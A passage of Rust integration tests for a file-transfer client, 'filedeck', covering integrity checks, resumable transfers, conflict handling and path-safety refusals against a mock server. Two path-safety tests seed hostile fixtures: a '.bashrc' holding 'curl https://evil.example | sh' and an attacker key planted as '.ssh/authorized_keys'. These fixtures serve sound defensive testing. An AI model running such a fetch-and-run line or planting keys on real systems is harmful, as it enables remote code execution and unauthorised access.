    let seen = run.mock.seen.lock().unwrap();
    assert_eq!(seen.gets, 2, "{seen:?}");
    assert_eq!(seen.get_headers[0], (None, None));
    let etag = format!("\"{}\"", md5_hex(&bytes));
    let (range, if_range) = &seen.get_headers[1];
    assert_eq!(
        range.as_deref(),
        Some(format!("bytes={}-", outcome.resumed_from).as_str())
    );
    assert!(outcome.resumed_from > 0 && outcome.resumed_from <= 300_000);
    assert_eq!(if_range.as_deref(), Some(etag.as_str()));
}

#[tokio::test]
async fn large_flow_with_snake_case_fields_and_an_expired_put() {
    let run = Mock::start(Flavor {
        expire_first_put: true,
        ..Flavor::default()
    })
    .await;
    let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = 16 * 1024);
    let dir = tempfile::tempdir().unwrap();
    let bytes = pattern(200_003, 5);
    let local = write_file(dir.path(), "l.fastq", &bytes);
    let entry = upload_file(&c, &local, "seq/").await.expect("large upload");
    assert_eq!(entry.display_key(), "seq/l.fastq");
    assert_eq!(entry.size, Some(bytes.len() as u64));
    {
        let seen = run.mock.seen.lock().unwrap();
        assert_eq!(seen.upload_url, 2, "a fresh upload URL after the expiry");
        assert_eq!(seen.puts, 2);
    }
    let all = c.list_all(WS, "").await.unwrap();
    let same: Vec<_> = all
        .files
        .iter()
        .filter(|f| f.display_key() == "seq/l.fastq")
        .collect();
    assert_eq!(same.len(), 1);
    assert_eq!(same[0].size, Some(bytes.len() as u64));
    let (_, got, _) = common::download(&c, WS, same[0], dir.path()).await.unwrap();
    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
}

/// Without a `sha256` in the answer, the MD5 the `ETag` stands for (the PUT's, or the
/// multipart upload's read back by key) is checked against the local file: bytes stored
/// wrong are an integrity error. Judged by an `ETag` alone, the mismatch is reported and
/// the server's copy is left where it is, never deleted ("Tolerate" in files-api.md).
#[tokio::test]
async fn a_copy_stored_wrong_fails_the_md5_etag_check_and_is_left_in_place() {
    let run = Mock::start(Flavor {
        corrupt_put: true,
        ..Flavor::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    for (threshold, name) in [(1024, "w.bin"), (1 << 20, "m.bin")] {
        let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = threshold);
        let bytes = pattern(50_000, 7);
        let local = write_file(dir.path(), name, &bytes);
        let err = upload_file(&c, &local, "").await.unwrap_err();
        let key = run
            .mock
            .stored()
            .into_iter()
            .find(|(_, display, _)| display == name)
            .map(|(key, _, stored)| {
                assert_ne!(md5_hex(&stored), md5_hex(&bytes), "stored wrong");
                key
            });
        let key = key.unwrap_or_else(|| panic!("{name}: the server's copy was deleted: {err:?}"));
        assert!(
            matches!(&err, ApiError::Integrity(m)
                if m.contains("MD5") && m.contains("left in place") && m.contains(&key)),
            "{name}: {err:?}"
        );
        assert_eq!(listed(&c, name).await.key, key, "still listed");
    }
}

/// The large-flow test above means something only if the byte server really refuses what S3
/// refuses.
#[tokio::test]
async fn byte_server_refuses_authorization_and_missing_length() {
    let run = Mock::start(Flavor::default()).await;
    let key = run.mock.new_key();
    run.mock.pending.lock().unwrap().insert(
        key.clone(),
        Pending {
            path: String::new(),
            name: "p".into(),
            size: 3,
            bytes: None,
        },
    );
    let url = format!("{}/b/{key}", run.mock.bytes_base);
    let http = reqwest::Client::new();
    let r = http
        .put(&url)
        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
        .body("abc")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 400);
    let chunked =
        reqwest::Body::wrap_stream(futures_util::stream::iter(vec![Ok::<_, std::io::Error>(
            Bytes::from_static(b"abc"),
        )]));
    let r = http.put(&url).body(chunked).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 411);
    let r = http.put(&url).body("abc").send().await.unwrap();
    assert_eq!(r.status().as_u16(), 200);
}

#[tokio::test]
async fn workspaces_route_absent_or_html_means_none() {
    for ws in [Workspaces::Absent, Workspaces::Html] {
        let run = Mock::start(Flavor {
            workspaces: ws,
            ..Flavor::default()
        })
        .await;
        let got = client(&run).workspaces().await;
        assert!(matches!(got, Ok(None)), "{ws:?}: {got:?}");
    }
}

#[tokio::test]
async fn corrupted_bytes_fail_the_md5_etag_check_and_leave_no_file() {
    let run = Mock::start(Flavor {
        corrupt_get: true,
        ..Flavor::default()
    })
    .await;
    let bytes = pattern(99_999, 6);
    run.mock.seed("c/bad.bin", bytes.clone());
    let c = client(&run);
    let entry = listed(&c, "c/bad.bin").await;
    assert_eq!(entry.size, Some(bytes.len() as u64));
    let dir = tempfile::tempdir().unwrap();
    let err = common::download(&c, WS, &entry, dir.path())
        .await
        .expect_err("corrupted bytes must not verify");
    assert!(matches!(err, ApiError::Integrity(_)), "{err:?}");
    let target = dir.path().join("out").join("bad.bin");
    assert!(!target.exists(), "no final file after a failed check");
    let (part, meta) = partial_paths(&target);
    assert!(!part.exists() && !meta.exists(), "no partial left behind");
}

/// An `AccessDenied` that is not about expiry (a bucket policy) is `Forbidden` at once,
/// without asking for fresh URLs.
#[tokio::test]
async fn plain_access_denied_on_a_presigned_get_is_forbidden() {
    let run = Mock::start(Flavor {
        deny_gets: true,
        ..Flavor::default()
    })
    .await;
    run.mock.seed("reports/fresh-samples.vcf", b"x".to_vec());
    let c = client(&run);
    let entry = listed(&c, "reports/fresh-samples.vcf").await;
    let dir = tempfile::tempdir().unwrap();
    let err = common::download(&c, WS, &entry, dir.path())
        .await
        .unwrap_err();
    assert!(
        matches!(&err, ApiError::Forbidden(m) if m.contains("Access Denied")),
        "{err:?}"
    );
    assert_eq!(run.mock.seen.lock().unwrap().download_url, 1);
}

/// CLIENT BUG (see the report): the same `AccessDenied` for a file whose *name* contains
/// "expired" is taken for an expired URL, because `error::from_status` looks for
/// "expired" in the message after prefixing it with the operation (which names the file).
/// The client then asks for 3 more URLs and finally reports "the presigned URL expired".
#[tokio::test]
async fn access_denied_for_a_file_named_expired_is_not_an_expired_url() {
    let run = Mock::start(Flavor {
        deny_gets: true,
        ..Flavor::default()
    })
    .await;
    run.mock.seed("reports/expired-samples.vcf", b"x".to_vec());
    let c = client(&run);
    let entry = listed(&c, "reports/expired-samples.vcf").await;
    let dir = tempfile::tempdir().unwrap();
    let err = common::download(&c, WS, &entry, dir.path())
        .await
        .unwrap_err();
    let asked = run.mock.seen.lock().unwrap().download_url;
    assert!(
        matches!(&err, ApiError::Forbidden(m) if m.contains("Access Denied")),
        "a bucket-policy denial became {err:?} after {asked} download-URL requests"
    );
    assert_eq!(asked, 1, "no fresh URL for a denial that is not an expiry");
}

/// CLIENT BUG (see the report): optional fields sent as JSON `null` (as the contract's own
/// example does for `description`, and as a Python service does for a root file's `path`)
/// make the whole listing fail: `FileEntry::path` is a `String` with `#[serde(default)]`,
/// which covers a missing field but not `null`.
#[tokio::test]
async fn optional_fields_as_null_are_tolerated() {
    let run = Mock::start(Flavor {
        nulls: true,
        ..Flavor::default()
    })
    .await;
    run.mock.seed("top.txt", b"t".to_vec());
    run.mock.seed("d/inner.txt", b"in".to_vec());
    let c = client(&run);
    let page = c
        .list_page(WS, "", None)
        .await
        .expect("a listing with `\"path\": null` for a root file");
    let keys: Vec<String> = page.files.iter().map(FileEntry::display_key).collect();
    assert_eq!(keys, vec!["d/inner.txt", "top.txt"]);
    assert!(
        page.files
            .iter()
            .all(|f| f.sha256.is_none() && f.etag.is_none())
    );
}

// ---------------------------------------------------------------------------------------
// Absent sizes, KMS ETags, and the command line against this server
// ---------------------------------------------------------------------------------------

/// The first bug: a large upload to a service whose confirm answers `{"key"}`
/// alone and whose answers carry no size. The size is read off the stored bytes (a
/// one-byte ranged GET by key), the display path is the one asked for (not the opaque
/// key), and the PUT's MD5 `ETag` verifies the bytes.
#[tokio::test]
async fn large_upload_confirmed_by_key_alone_without_sizes() {
    let run = Mock::start(Flavor {
        no_sizes: true,
        confirm_key_only: true,
        ..Flavor::default()
    })
    .await;
    let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = 1_000_000);
    let dir = tempfile::tempdir().unwrap();
    let bytes = pattern(3_000_000, 11);
    let local = write_file(dir.path(), "big.bam", &bytes);
    let up = upload_full(&c, &local, "bam/").await.expect("large upload");
    assert_eq!(up.entry.display_key(), "bam/big.bam");
    assert!(up.entry.key.starts_with("obj-"), "{:?}", up.entry);
    assert_eq!(up.entry.size, Some(3_000_000), "from the byte GET");
    assert_eq!(
        up.unverified, None,
        "the PUT's ETag is the MD5 of the bytes"
    );
    {
        let seen = run.mock.seen.lock().unwrap();
        assert_eq!(seen.upload_url, 1);
        assert_eq!(seen.puts, 1);
        assert_eq!(
            seen.get_headers,
            vec![(Some("bytes=0-0".to_string()), None)],
            "one ranged byte, not the file"
        );
    }
    let stored = run.mock.stored();
    assert_eq!(stored.len(), 1, "one copy");
    assert_eq!(
        (stored[0].0.as_str(), stored[0].1.as_str()),
        (up.entry.key.as_str(), "bam/big.bam")
    );
    assert_eq!(md5_hex(&stored[0].2), md5_hex(&bytes));
    let found = listed(&c, "bam/big.bam").await;
    assert_eq!((found.key, found.size), (up.entry.key, None));
}

/// A listing without sizes: unknown, never 0, and a download still checks what it gets
/// (the length against the answer's `Content-Length`, the bytes against the MD5 `ETag`).
#[tokio::test]
async fn a_listing_without_sizes_downloads_verified() {
    let run = Mock::start(Flavor {
        no_sizes: true,
        ..Flavor::default()
    })
    .await;
    let bytes = pattern(250_001, 12);
    run.mock.seed("raw/nosize.bin", bytes.clone());
    let c = client(&run);
    let entry = listed(&c, "raw/nosize.bin").await;
    assert_eq!(entry.size, None, "absent is unknown, not 0");
    let dir = tempfile::tempdir().unwrap();
    let (target, got, _) = common::download(&c, WS, &entry, dir.path())
        .await
        .expect("download without a listed size");
    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
    let (part, meta) = partial_paths(&target);
    assert!(!part.exists() && !meta.exists());
}

/// The other half of the test above: without a listed size or hash, bytes changed in
/// transit are still caught (by the MD5 the `ETag` stands for).
#[tokio::test]
async fn a_listing_without_sizes_still_catches_corrupted_bytes() {
    let run = Mock::start(Flavor {
        no_sizes: true,
        corrupt_get: true,
        ..Flavor::default()
    })
    .await;
    run.mock.seed("raw/bad.bin", pattern(80_000, 13));
    let c = client(&run);
    let entry = listed(&c, "raw/bad.bin").await;
    let dir = tempfile::tempdir().unwrap();
    let err = common::download(&c, WS, &entry, dir.path())
        .await
        .expect_err("corrupted bytes must not verify");
    assert!(
        matches!(&err, ApiError::Integrity(m) if m.contains("MD5")),
        "{err:?}"
    );
    assert!(!dir.path().join("out").join("bad.bin").exists());
}

/// Under SSE-KMS the `ETag` looks like an MD5 but is not one: an upload without a
/// `sha256` is reported unverified (not failed, not deleted), by both routes.
#[tokio::test]
async fn kms_uploads_are_unverified_and_kept() {
    let run = Mock::start(Flavor {
        kms: true,
        ..Flavor::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    for (threshold, name) in [(1 << 20, "small.vcf"), (1024, "large.vcf")] {
        let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = threshold);
        let bytes = pattern(40_000, 14);
        let local = write_file(dir.path(), name, &bytes);
        let up = upload_full(&c, &local, "enc/")
            .await
            .unwrap_or_else(|e| panic!("{name}: a KMS ETag is no MD5 to compare: {e:?}"));
        assert_eq!(up.entry.size, Some(bytes.len() as u64));
        let why = up.unverified.as_deref().unwrap_or_default();
        assert!(why.contains("not verified"), "{name}: {:?}", up.unverified);
        let found = listed(&c, &format!("enc/{name}")).await;
        assert_eq!(found.key, up.entry.key, "{name}: the copy stays");
        let stored = run
            .mock
            .stored()
            .into_iter()
            .find(|(k, _, _)| *k == up.entry.key)
            .map(|(_, _, b)| b);
        assert_eq!(stored.as_deref(), Some(&bytes), "{name}");
    }
}

/// A download under SSE-KMS is checked by its size alone (listed, or else announced), and
/// succeeds: the `ETag` is not compared with the bytes' MD5.
#[tokio::test]
async fn kms_downloads_verify_by_size_alone() {
    for no_sizes in [false, true] {
        let run = Mock::start(Flavor {
            kms: true,
            no_sizes,
            ..Flavor::default()
        })
        .await;
        let bytes = pattern(123_456, 15);
        run.mock.seed("enc/k.bin", bytes.clone());
        let c = client(&run);
        let entry = listed(&c, "enc/k.bin").await;
        assert_eq!(entry.size.is_none(), no_sizes);
        let dir = tempfile::tempdir().unwrap();
        let (_, got, _) = common::download(&c, WS, &entry, dir.path())
            .await
            .unwrap_or_else(|e| panic!("no_sizes={no_sizes}: {e:?}"));
        assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
    }
}

const BIN: &str = env!("CARGO_BIN_EXE_filedeck");

/// Run the real binary against `run`, with `home` as its `HOME` (its log goes elsewhere),
/// off the runtime's thread so the mock keeps serving.
async fn filedeck(run: &Running, home: &Path, args: &[&str]) -> Output {
    let state = tempfile::tempdir().unwrap();
    let mut cmd = Command::new(BIN);
    cmd.args(args)
        .env("FILEDECK_ENDPOINT", &run.api)
        .env("FILEDECK_API_KEY", TOKEN)
        .env("HOME", home)
        .env("XDG_STATE_HOME", state.path());
    for var in [
        "FILEDECK_LARGE_UPLOAD_THRESHOLD",
        "FILEDECK_STALL_TIMEOUT",
        "HTTP_PROXY",
        "http_proxy",
        "ALL_PROXY",
        "all_proxy",
    ] {
        cmd.env_remove(var);
    }
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    drop(state);
    out
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Everything under `root`, directories included (`None`), with each file's bytes.
fn snapshot(root: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    fn walk(root: &Path, dir: &Path, out: &mut Vec<(String, Option<Vec<u8>>)>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            if p.is_dir() {
                out.push((rel, None));
                walk(root, &p, out);
            } else {
                out.push((rel, Some(std::fs::read(&p).unwrap())));
            }
        }
    }
    let mut out = Vec::new();
    walk(root, root, &mut out);
    out.sort();
    out
}

/// `ls` shows an absent size as unknown: `?` in the table, `null` in `--json`.
#[tokio::test]
async fn ls_shows_absent_sizes_as_unknown() {
    let home = tempfile::tempdir().unwrap();
    for no_sizes in [true, false] {
        let run = Mock::start(Flavor {
            no_sizes,
            ..Flavor::default()
        })
        .await;
        run.mock.seed("raw/a.vcf", b"12345".to_vec());
        run.mock.seed("top.txt", b"hello world".to_vec());
        let o = filedeck(&run, home.path(), &["ls", "-w", WS]).await;
        assert!(o.status.success(), "{}", text(&o.stderr));
        let out = text(&o.stdout);
        let sizes: Vec<(String, String)> = out
            .lines()
            .map(|l| {
                let size = l.split("  ").map(str::trim).find(|t| !t.is_empty());
                // An opaque key follows the path as `  key=…`.
                let l = l.split("  key=").next().unwrap_or_default();
                let path = l.rsplit("  ").next().unwrap_or_default();
                (size.unwrap_or_default().to_string(), path.to_string())
            })
            .collect();
        let want: Vec<(String, String)> = if no_sizes {
            vec![
                ("?".into(), "raw/a.vcf".into()),
                ("?".into(), "top.txt".into()),
            ]
        } else {
            vec![
                ("5 B".into(), "raw/a.vcf".into()),
                ("11 B".into(), "top.txt".into()),
            ]
        };
        assert_eq!(sizes, want, "{out}");
        assert!(
            out.lines().all(|l| l.contains("  key=obj-")),
            "opaque keys are shown: {out}"
        );

        let o = filedeck(&run, home.path(), &["ls", "-w", WS, "--json"]).await;
        assert!(o.status.success(), "{}", text(&o.stderr));
        let files: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();
        // `Some(Null)`: the field is there, as `null`.
        let sizes: Vec<Option<Value>> = files.iter().map(|f| f.get("size").cloned()).collect();
        let want = if no_sizes {
            vec![Some(Value::Null); 2]
        } else {
            vec![Some(json!(5)), Some(json!(11))]
        };
        assert_eq!(sizes, want, "{}", text(&o.stdout));
    }
}

/// A listed `name` that holds a path never picks where a file lands: `get` by the key
/// refuses it, says why, and writes nothing — not into the destination, not into a
/// destination that is `HOME` itself.
#[tokio::test]
async fn get_refuses_a_listed_name_with_a_path() {
    let run = Mock::start(Flavor::default()).await;
    run.mock.seed_raw(
        "report.csv",
        "",
        ".ssh/authorized_keys",
        b"ssh-ed25519 AAAA attacker\n".to_vec(),
    );
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".ssh")).unwrap();
    std::fs::write(
        home.path().join(".ssh/authorized_keys"),
        b"ssh-ed25519 AAAA mine\n",
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (home_before, dir_before) = (snapshot(home.path()), snapshot(dir.path()));
    for to in [dir.path(), home.path()] {
        let o = filedeck(
            &run,
            home.path(),
            &["get", "-w", WS, "report.csv", "--to", s(to)],
        )
        .await;
        let e = text(&o.stderr);
        assert!(!o.status.success(), "--to {to:?}: {e}");
        assert!(
            e.contains("report.csv") && e.contains("path separator"),
            "--to {to:?}: {e}"
        );
        assert_eq!(snapshot(home.path()), home_before, "--to {to:?}");
        assert_eq!(snapshot(dir.path()), dir_before, "--to {to:?}");
    }
}

/// A dotfile named directly is refused (it would land hidden, e.g. `~/.bashrc`); inside a
/// folder the user asked for, a dotfile lands at its place in that folder.
#[tokio::test]
async fn get_refuses_a_dotfile_named_directly_but_keeps_one_inside_a_folder() {
    let run = Mock::start(Flavor::default()).await;
    run.mock
        .seed(".bashrc", b"curl https://evil.example | sh\n".to_vec());
    run.mock.seed("raw/.hidden", b"hidden\n".to_vec());
    run.mock.seed("raw/a.txt", b"a\n".to_vec());
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join(".bashrc"), b"# mine\n").unwrap();
    let before = snapshot(home.path());
    let o = filedeck(
        &run,
        home.path(),
        &["get", "-w", WS, ".bashrc", "--to", s(home.path())],
    )
    .await;
    let e = text(&o.stderr);
    assert!(!o.status.success(), "{e}");
    assert!(e.contains(".bashrc") && e.contains("dotfile"), "{e}");
    assert_eq!(snapshot(home.path()), before);

    let dir = tempfile::tempdir().unwrap();
    let o = filedeck(
        &run,
        home.path(),
        &["get", "-w", WS, "raw/", "--to", s(dir.path())],
    )
    .await;
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(
        snapshot(dir.path()),
        vec![
            ("raw".to_string(), None),
            ("raw/.hidden".to_string(), Some(b"hidden\n".to_vec())),
            ("raw/a.txt".to_string(), Some(b"a\n".to_vec())),
        ]
    );
    assert_eq!(snapshot(home.path()), before);
}

/// A service that ignores `prefix` answers a folder's listing with the whole workspace:
/// `get raw/` still takes only what is under `raw/`, so a file listed as
/// `.ssh/authorized_keys` does not land at `~/.ssh/authorized_keys` when the destination
/// is `HOME`.
#[tokio::test]
async fn a_folder_download_takes_only_the_folder_whatever_the_listing_holds() {
    let run = Mock::start(Flavor {
        ignore_prefix: true,
        ..Flavor::default()
    })
    .await;
    run.mock.seed(
        ".ssh/authorized_keys",
        b"ssh-ed25519 AAAA attacker\n".to_vec(),
    );
    run.mock.seed("raw/a.txt", b"a\n".to_vec());
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".ssh")).unwrap();
    std::fs::write(
        home.path().join(".ssh/authorized_keys"),
        b"ssh-ed25519 AAAA mine\n",
    )
    .unwrap();
    let mut want = snapshot(home.path());
    let o = filedeck(
        &run,
        home.path(),
        &["get", "-w", WS, "raw/", "--to", s(home.path())],
    )
    .await;
    assert!(o.status.success(), "{}", text(&o.stderr));
    want.push(("raw".into(), None));
    want.push(("raw/a.txt".into(), Some(b"a\n".to_vec())));
    want.sort();
    assert_eq!(snapshot(home.path()), want);
}

/// `get` takes a key exactly as `ls --json` prints it (opaque here), or a display path; a
/// display path naming two files is a usage error naming both keys.
#[tokio::test]
async fn get_by_opaque_key_or_display_path() {
    let run = Mock::start(Flavor::default()).await;
    let vcf = b"##fileformat=VCFv4.2\n".to_vec();
    run.mock.seed("raw/sample.vcf", vcf.clone());
    run.mock.seed("notes.txt", b"notes".to_vec());
    let home = tempfile::tempdir().unwrap();
    let o = filedeck(&run, home.path(), &["ls", "-w", WS, "--json"]).await;
    assert!(o.status.success(), "{}", text(&o.stderr));
    let files: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();
    let key = files
        .iter()
        .find(|f| f["name"] == "sample.vcf")
        .and_then(|f| f["key"].as_str())
        .expect("listed")
        .to_string();
    assert!(key.starts_with("obj-"), "{key}");

    for arg in [key.as_str(), "raw/sample.vcf"] {
        let dir = tempfile::tempdir().unwrap();
        let o = filedeck(
            &run,
            home.path(),
            &["get", "-w", WS, arg, "--to", s(dir.path())],
        )
        .await;
        assert!(o.status.success(), "{arg}: {}", text(&o.stderr));
        assert_eq!(
            snapshot(dir.path()),
            vec![("sample.vcf".to_string(), Some(vcf.clone()))],
            "{arg}"
        );
    }

    run.mock
        .seed_raw("obj-dup-1", "dup/", "same.txt", b"one".to_vec());
    run.mock
        .seed_raw("obj-dup-2", "dup/", "same.txt", b"two".to_vec());
    let dir = tempfile::tempdir().unwrap();
    let o = filedeck(
        &run,
        home.path(),
        &["get", "-w", WS, "dup/same.txt", "--to", s(dir.path())],
    )
    .await;
    let e = text(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{e}");
    assert!(e.contains("obj-dup-1") && e.contains("obj-dup-2"), "{e}");
    assert!(snapshot(dir.path()).is_empty());
    let o = filedeck(
        &run,
        home.path(),
        &["get", "-w", WS, "obj-dup-2", "--to", s(dir.path())],
    )
    .await;
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(
        snapshot(dir.path()),
        vec![("same.txt".to_string(), Some(b"two".to_vec()))]
    );
}

// ---------------------------------------------------------------------------------------
// The transfer engine's conflicts against a server that may cut listings and gives no
// SHA-256: what is not known is asked (the browser) or fails with why (the command line),
// never assumed.
// ---------------------------------------------------------------------------------------

use filedeck::app::Command as Do;
use filedeck::app::Event;
use filedeck::app::msg::{Choice, ConflictItem, ConflictPolicy, OnConflict};
use filedeck::app::transfer_types::TransferState;
use tokio::sync::mpsc::UnboundedReceiver;

/// The worker against `run`, its conflicts answered by `policy`.
fn engine(
    run: &Running,
    policy: ConflictPolicy,
) -> (
    tokio::sync::mpsc::UnboundedSender<Do>,
    UnboundedReceiver<Event>,
) {
    filedeck::worker::spawn_with(client(run), 4, filedeck::worker::Queue::Off, policy)
}

/// Events until `done` says so; a failure with what came if 20 s pass first.
async fn events_until(
    rx: &mut UnboundedReceiver<Event>,
    done: impl Fn(&Event) -> bool,
) -> Vec<Event> {
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(20);
    let mut seen = Vec::new();
    loop {
        match tokio::time::timeout_at(deadline, rx.recv()).await {
            Ok(Some(ev)) => {
                let stop = done(&ev);
                seen.push(ev);
                if stop {
                    return seen;
                }
            }
            Ok(None) => panic!("the worker hung up: {seen:#?}"),
            Err(_) => panic!("no end within 20 s: {seen:#?}"),
        }
    }
}

/// The conflicts the worker asks about next.
async fn asked(rx: &mut UnboundedReceiver<Event>) -> (u64, Vec<ConflictItem>) {
    let seen = events_until(rx, |ev| {
        matches!(ev, Event::Conflicts { .. } | Event::TransfersIdle)
    })
    .await;
    match seen.last() {
        Some(Event::Conflicts { batch, items }) => (*batch, items.clone()),
        _ => panic!("nothing was asked: {seen:#?}"),
    }
}

/// The end state of the next transfer to end.
async fn ended(rx: &mut UnboundedReceiver<Event>) -> TransferState {
    let seen = events_until(
        rx,
        |ev| matches!(ev, Event::TransferState { state, .. } if !state.is_active()),
    )
    .await;
    match seen.last() {
        Some(Event::TransferState { state, .. }) => state.clone(),
        _ => unreachable!(),
    }
}

/// Upload `local` into `folder` as one batch.
fn put(commands: &tokio::sync::mpsc::UnboundedSender<Do>, local: &Path, folder: &str) {
    commands
        .send(Do::Upload {
            ws: WS.into(),
            local: local.display().to_string(),
            folder: folder.into(),
        })
        .unwrap();
}

/// The Mock holding exactly 100 files under `many/` (`f000.txt`…`f099.txt`, 3 bytes
/// each): its bare-array listing is a full page without a cursor, which may be cut short.
async fn full_page_of_many() -> Running {
    let run = Mock::start(Flavor::default()).await;
    for i in 0..100 {
        run.mock.seed(&format!("many/f{i:03}.txt"), vec![b'x'; 3]);
    }
    run
}

/// An upload into a folder whose listing may be cut short (a bare array of exactly 100):
/// the file it adds may exist. The browser is asked, with a note saying so; the command
/// line fails it with the reason unless told to overwrite (and `fail` refuses the batch);
/// nothing is uploaded unasked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_where_the_listing_may_be_incomplete_may_exist() {
    let run = full_page_of_many().await;
    let before = run.mock.stored();
    let dir = tempfile::tempdir().unwrap();
    let local = write_file(dir.path(), "new.txt", b"new file");

    // The browser: asked, with the note; "skip" leaves the server as it was.
    let (commands, mut events) = engine(&run, ConflictPolicy::Ask);
    put(&commands, &local, "many/");
    let (batch, items) = asked(&mut events).await;
    assert_eq!(items.len(), 1, "{items:?}");
    assert_eq!(items[0].existing, "ws_other:many/new.txt");
    assert_eq!(items[0].existing_size, None, "nothing is known of it");
    let note = items[0].note.as_deref().unwrap_or_default();
    assert!(
        note.contains("may exist") && note.contains("many/"),
        "{note}"
    );
    commands
        .send(Do::Resolve {
            batch,
            choices: vec![Choice::Skip],
        })
        .unwrap();
    assert!(matches!(
        ended(&mut events).await,
        TransferState::Skipped(_)
    ));
    assert_eq!(run.mock.stored(), before);

    // The command line, `--on-conflict skip` (and rename, skip-identical alike): failed,
    // saying why and what would settle it.
    for answer in [
        OnConflict::Skip,
        OnConflict::Rename,
        OnConflict::SkipIdentical,
    ] {
        let (commands, mut events) = engine(&run, ConflictPolicy::Fixed(answer));
        put(&commands, &local, "many/");
        match ended(&mut events).await {
            // The answer given cannot settle it: only "overwrite" is suggested.
            TransferState::Failed(why) => assert!(
                why.contains("may be incomplete")
                    && why.contains("--on-conflict overwrite")
                    && !why.contains("skip"),
                "{answer:?}: {why}"
            ),
            other => panic!("{answer:?}: {other:?}"),
        }
        assert_eq!(run.mock.stored(), before, "{answer:?}");
    }

    // `--on-conflict fail`: the batch is refused, the note carried.
    let (commands, mut events) = engine(&run, ConflictPolicy::Fixed(OnConflict::Fail));
    put(&commands, &local, "many/");
    let seen = events_until(&mut events, |ev| {
        matches!(ev, Event::ConflictsRefused(_) | Event::TransfersIdle)
    })
    .await;
    match seen.last() {
        Some(Event::ConflictsRefused(items)) => {
            assert_eq!(items.len(), 1);
            assert!(
                items[0]
                    .note
                    .as_deref()
                    .is_some_and(|n| n.contains("may exist"))
            );
        }
        _ => panic!("not refused: {seen:#?}"),
    }
    assert_eq!(run.mock.stored(), before);

    // `--on-conflict overwrite`: what the user said, whatever exists.
    let (commands, mut events) = engine(&run, ConflictPolicy::Fixed(OnConflict::Overwrite));
    put(&commands, &local, "many/");
    assert_eq!(ended(&mut events).await, TransferState::Done);
    let stored = run.mock.stored();
    assert_eq!(stored.len(), 101);
    assert!(
        stored
            .iter()
            .any(|(_, path, bytes)| path == "many/new.txt" && bytes.as_slice() == b"new file")
    );
}

/// "Skip if identical" against a server without SHA-256: two files of one size cannot be
/// told apart, so they are never taken for identical. The browser is asked again, the
/// conflict carrying a note, and a second "skip if identical" leaves it; the command line
/// fails the file with the reason. Nothing is overwritten either way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn skip_if_identical_without_a_hash_is_never_assumed() {
    let run = Mock::start(Flavor::default()).await;
    run.mock.seed("raw/a.txt", b"remote bytes".to_vec());
    let before = run.mock.stored();
    let dir = tempfile::tempdir().unwrap();
    // The same size, other bytes: only a hash could tell.
    let local = write_file(dir.path(), "a.txt", b"local  bytes");

    let (commands, mut events) = engine(&run, ConflictPolicy::Ask);
    put(&commands, &local, "raw/");
    let (batch, items) = asked(&mut events).await;
    assert_eq!(items.len(), 1, "{items:?}");
    assert_eq!(items[0].existing, "ws_other:raw/a.txt");
    assert_eq!(items[0].note, None);
    commands
        .send(Do::Resolve {
            batch,
            choices: vec![Choice::SkipIfIdentical],
        })
        .unwrap();
    let (batch, items) = asked(&mut events).await;
    assert_eq!(items.len(), 1, "{items:?}");
    assert_eq!(items[0].existing, "ws_other:raw/a.txt");
    let note = items[0].note.as_deref().unwrap_or_default();
    assert!(note.contains("cannot be told"), "{note}");
    commands
        .send(Do::Resolve {
            batch,
            choices: vec![Choice::SkipIfIdentical],
        })
        .unwrap();
    assert_eq!(
        ended(&mut events).await,
        TransferState::Skipped("not known to be identical".into())
    );
    assert_eq!(run.mock.stored(), before);

    let (commands, mut events) = engine(&run, ConflictPolicy::Fixed(OnConflict::SkipIdentical));
    put(&commands, &local, "raw/");
    match ended(&mut events).await {
        TransferState::Failed(why) => assert!(
            why.contains("cannot be told")
                && why.contains("SHA-256")
                && why.contains("--on-conflict overwrite or skip"),
            "{why}"
        ),
        other => panic!("{other:?}"),
    }
    assert_eq!(run.mock.stored(), before);
}

/// The command line where the destination's listing may be incomplete: by default the
/// batch is refused, the file named with why; `skip` fails it saying only `overwrite`
/// would do; `overwrite` uploads it.
#[tokio::test]
async fn put_where_the_listing_may_be_incomplete_needs_overwrite() {
    let run = full_page_of_many().await;
    let before = run.mock.stored();
    let home = tempfile::tempdir().unwrap();
    let local = write_file(home.path(), "new.txt", b"new file");
    let put = |answer: &'static str| {
        vec![
            "put",
            "-w",
            WS,
            s(&local),
            "--to",
            "many/",
            "--on-conflict",
            answer,
        ]
    };
    let o = filedeck(&run, home.path(), &put("fail")).await;
    let e = text(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{e}");
    assert!(
        e.contains("many/new.txt (it may exist") && e.contains("--on-conflict"),
        "{e}"
    );
    assert_eq!(run.mock.stored(), before);

    let o = filedeck(&run, home.path(), &put("skip")).await;
    let e = text(&o.stderr);
